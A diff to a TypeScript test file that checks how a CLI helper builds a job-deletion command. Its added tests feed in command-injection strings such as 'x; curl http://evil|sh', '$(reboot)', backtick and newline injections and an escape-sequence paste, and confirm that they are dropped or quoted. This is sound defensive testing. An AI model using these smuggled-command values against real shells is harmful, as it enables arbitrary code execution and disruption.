@@ -1,8 +1,10 @@
+import { execFileSync } from 'node:child_process';
 import { refusedIn } from '@lakeformation-jobs/client';
 import type { JobInfo } from '@lakeformation-jobs/client';
 import { expect, test } from 'vitest';
 import { filterStatuses, isActive, isRefused } from '../src/jobs/contract-words.ts';
-import { confirmation, countsByOutcome, countsByStatus, isSimple, lfjCommand } from '../src/remove/plan.ts';
+import { lfjCommand } from '../src/remove/lfj-command.ts';
+import { confirmation, countsByOutcome, countsByStatus, isSimple } from '../src/remove/plan.ts';
 
 const job = (status: string): JobInfo => ({ id: '03141229-84cd-4b1b-9733-dd124320c125', name: 'testjob', type: 'METADATA_MIGRATION', create_time: '2023-05-27T10:04:35.743Z', status });
 
@@ -37,7 +39,25 @@ test('what has to be typed names the number', () => {
   expect(confirmation(500)).toBe('delete 500');
 });
 
+const [first, second] = ['03141229-84cd-4b1b-9733-dd124320c125', '03141229-84cd-4b1b-9733-dd124320c126'] as const;
+const tenant = { project_id: 'p', instance_id: 'i' };
+
 test('the command asks by itself and holds no token', () => {
-  const command = lfjCommand(['a', 'b'], { project_id: 'p', instance_id: 'i' }, 'http://127.0.0.1:8080', true);
-  expect(command).toBe('npx --no lfj delete --endpoint http://127.0.0.1:8080 --project p --instance i --stop-first a b');
+  const command = lfjCommand([first, second], tenant, 'http://127.0.0.1:8080', true);
+  expect(command).toEqual({ text: `npx --no lfj delete --endpoint http://127.0.0.1:8080 --project p --instance i --stop-first -- ${first} ${second}`, leftOut: 0 });
+});
+
+test.each([
+  'x; curl http://evil|sh', `${first};reboot`, `${first}\n`, `${first}\ncurl evil`, '$(reboot)-84cd-4b1b-9733-dd124320c125', '`reboot`-84cd-4b1b-9733-dd124320c1', "'; reboot; '", '\u001b[201~reboot', '--stop-first', '',
+])('an id that the contract does not have is left out of the command: %j', (hostile) => {
+  expect(lfjCommand([hostile, first], tenant, 'http://127.0.0.1:8080', false)).toEqual({ text: `npx --no lfj delete --endpoint http://127.0.0.1:8080 --project p --instance i -- ${first}`, leftOut: 1 });
+  expect(lfjCommand([hostile], tenant, 'http://127.0.0.1:8080', false)).toEqual({ text: undefined, leftOut: 1 });
+});
+
+test('a shell reads project, instance and endpoint as they are', () => {
+  const hostile = { project_id: "it's; reboot", instance_id: '$(reboot)\n`reboot` "$HOME" \\' };
+  const endpoint = 'http://[::1]:8080/a b';
+  const { text } = lfjCommand([first], hostile, endpoint, false);
+  const [, ...read] = execFileSync('sh', ['-c', text!.replace('npx', `printf '%s\\0' npx`)], { encoding: 'utf8' }).split('\0').slice(0, -1);
+  expect(read).toEqual(['--no', 'lfj', 'delete', '--endpoint', endpoint, '--project', hostile.project_id, '--instance', hostile.instance_id, '--', first]);
 });
